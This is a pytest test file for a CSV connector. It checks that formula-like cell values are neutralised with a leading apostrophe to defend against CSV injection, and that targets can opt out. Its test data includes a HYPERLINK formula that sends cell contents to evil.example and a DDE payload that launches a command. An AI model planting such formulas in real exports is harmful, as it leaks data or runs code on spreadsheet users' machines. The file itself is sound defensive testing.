"""Formula-like values reach a CSV target neutralised (CSV injection, OWASP).

A spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR as a formula;
the CSV connector writes such a value with a leading ``'`` unless the target opts out
(``spreadsheet_safe: false``; ``neutralise_formulas`` is its older name, still accepted).
Plain numbers stay as they are. (Leading tabs and CRs through the hub are covered in
tests/connectors/test_csvfile.py: the inbound mapping trims them.)
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from pydantic import ValidationError
from typer.testing import CliRunner

from connectors.base import StreamSpec
from connectors.csv.connector import CsvConnector, CsvSettings
from hub.cli.main import app

runner = CliRunner()

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "@SUM(1)", "-2+3",
            "=cmd|' /C calc'!A0"]


def _source_with_formulas(starter: Path) -> None:
    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    writer.writerow(["id", "first_name", "last_name", "email", "birthday", "country",
                     "newsletter", "tier", "changed_at"])
    for number, value in enumerate(FORMULAS, start=1):
        writer.writerow([2000 + number, value, "+4930123456" if number == 1 else "-2.50",
                         f"person{number}@example.org", "1980-01-01", "de", "yes", "",
                         "2026-01-01T00:00:00"])
    (starter.parent / "data" / "source" / "customers.csv").write_text(rows.getvalue(),
                                                                       encoding="utf-8")


def _target_rows(starter: Path) -> dict[str, dict[str, str]]:
    text = (starter.parent / "data" / "target" / "subscribers.csv").read_text(encoding="utf-8")
    return {row["email"]: row for row in csv.DictReader(io.StringIO(text))}


def test_formula_like_values_reach_the_csv_target_neutralised(starter: Path) -> None:
    _source_with_formulas(starter)
    result = runner.invoke(app, ["--config", str(starter), "sync"])
    assert result.exit_code == 0, result.output
    rows = _target_rows(starter)
    assert [rows[f"person{n}@example.org"]["first_name"] for n in range(1, 5)] == \
        ["'" + value for value in FORMULAS]
    # plain numbers (a negative amount, an E.164 phone number) are left alone
    assert rows["person1@example.org"]["last_name"] == "+4930123456"
    assert rows["person2@example.org"]["last_name"] == "-2.50"
    raw = (starter.parent / "data" / "target" / "subscribers.csv").read_text(encoding="utf-8")
    assert not any(line.startswith(("=", "+", "-", "@")) for line in raw.splitlines())


@pytest.mark.parametrize("option", ["spreadsheet_safe", "neutralise_formulas"])
def test_a_target_may_opt_out(starter: Path, option: str) -> None:
    _source_with_formulas(starter)
    text = starter.read_text(encoding="utf-8")
    marker = "      directory: data/target\n"
    assert marker in text
    starter.write_text(text.replace(marker, marker + f"      {option}: false\n"),
                       encoding="utf-8")
    result = runner.invoke(app, ["--config", str(starter), "sync"])
    assert result.exit_code == 0, result.output
    rows = _target_rows(starter)
    assert [rows[f"person{n}@example.org"]["first_name"] for n in range(1, 5)] == FORMULAS


def test_what_is_neutralised_and_what_stays(tmp_path: Path) -> None:
    conn = CsvConnector(CsvSettings(), system="mailing", base_dir=tmp_path)
    spec = StreamSpec("out.csv", ("id",))
    kept = ["+4930123456", "+14155550100", "-2.50", "-2,50", "1234", "+49", "0", "a=b",
            "mail@example.org", ""]
    neutralised = ["=1+1", "+49 30 123456", "-2+3", "@SUM(1)", "\tx", "\rx", "-", "+",
                   "=cmd|' /C calc'!A0"]
    conn.write(spec, [{"id": f"k{n}", "v": v} for n, v in enumerate(kept)]
               + [{"id": f"n{n}", "v": v} for n, v in enumerate(neutralised)])
    got = {r.data["id"]: r.data["v"] for b in conn.read(spec) for r in b.records}
    assert [got[f"k{n}"] for n in range(len(kept))] == kept  # E.164 numbers, plain numbers
    assert [got[f"n{n}"] for n in range(len(neutralised))] == ["'" + v for v in neutralised]


def test_spreadsheet_safe_is_on_by_default_and_has_one_name_at_a_time() -> None:
    assert CsvSettings().spreadsheet_safe is True
    assert CsvSettings.model_validate({"neutralise_formulas": False}).spreadsheet_safe is False
    assert CsvSettings.model_validate({"spreadsheet_safe": False}).spreadsheet_safe is False
    with pytest.raises(ValidationError, match="set `spreadsheet_safe` only"):
        CsvSettings.model_validate({"spreadsheet_safe": True, "neutralise_formulas": False})
